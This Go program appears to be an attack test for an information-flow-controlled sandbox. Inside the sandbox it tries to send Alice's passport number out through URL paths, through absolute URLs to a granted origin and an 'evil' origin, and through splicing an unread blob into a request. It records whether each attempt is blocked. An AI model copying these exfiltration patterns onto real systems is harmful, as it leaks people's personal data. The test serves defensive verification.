// Command exfil-url reads Alice's passport and tries to send it out in a
// URL's path, in an absolute URL to the granted and the evil origin, and,
// before reading it, by splicing the unread blob into the path. The public
// capability's clearance is {} (law 7): a tainted task, or a spliced blob
// above the sink's clearance, is EFLOW before anything is sent. The vault,
// cleared for pii:alice, may receive it.
package main

import (
	"encoding/json"

	mandate "github.com/mandatevm/mandate/guest-sdk"
	"github.com/mandatevm/mandate/guest-sdk/abi"
	"github.com/mandatevm/mandate/internal/attacks/attack"
)

func main() {
	in := attack.ReadInput()
	web := attack.Must(mandate.Lookup("web"))
	vault := attack.Must(mandate.Lookup("vault"))
	mydata := attack.Must(mandate.Lookup("mydata"))
	pb, err := mydata.Call("read", []byte(`{"owner":"alice","fields":["passport"]}`))
	attack.Rec("read_unread", err)
	// Unread: splice it into the path.
	_, err = fetch(web, abi.HTTPRequest{Method: "GET", URL: "/api/" + abi.SplicePlaceholder(0), Splice: []abi.Handle{pb.Handle()}})
	attack.Rec("splice_path", err)
	_, err = fetch(web, abi.HTTPRequest{Method: "GET", URL: in.Granted + "/api/x" + abi.SplicePlaceholder(0), Splice: []abi.Handle{pb.Handle()}})
	attack.Rec("splice_absolute", err)
	_, err = fetch(web, abi.HTTPRequest{Method: "GET", URL: "/api/clean-before"})
	attack.Rec("clean_before_read", err)
	// Read it: the task's label rises to pii:alice.
	raw, err := pb.Bytes()
	attack.Rec("read", err)
	var r struct {
		Fields struct{ Passport string } `json:"fields"`
	}
	json.Unmarshal(raw, &r)
	p := r.Fields.Passport
	_, err = fetch(web, abi.HTTPRequest{Method: "GET", URL: "/api/" + p})
	attack.Rec("path", err)
	_, err = fetch(web, abi.HTTPRequest{Method: "GET", URL: in.Granted + "/api/" + p})
	attack.Rec("absolute", err)
	_, err = fetch(web, abi.HTTPRequest{Method: "GET", URL: in.Evil + "/" + p})
	attack.Rec("absolute_evil", err)
	_, err = fetch(web, abi.HTTPRequest{Method: "GET", URL: "/api/clean-after"})
	attack.Rec("clean_after_read", err) // more sensitive data, fewer actions
	// The vault is cleared for it.
	_, err = fetch(vault, abi.HTTPRequest{Method: "POST", URL: "/vault/" + p})
	attack.Rec("vault", err)
	attack.Finish()
}

func fetch(c mandate.Cap, r abi.HTTPRequest) (mandate.Blob, error) {
	b, _ := abi.EncodeHTTPRequest(r)
	return c.Call("fetch", b)
}
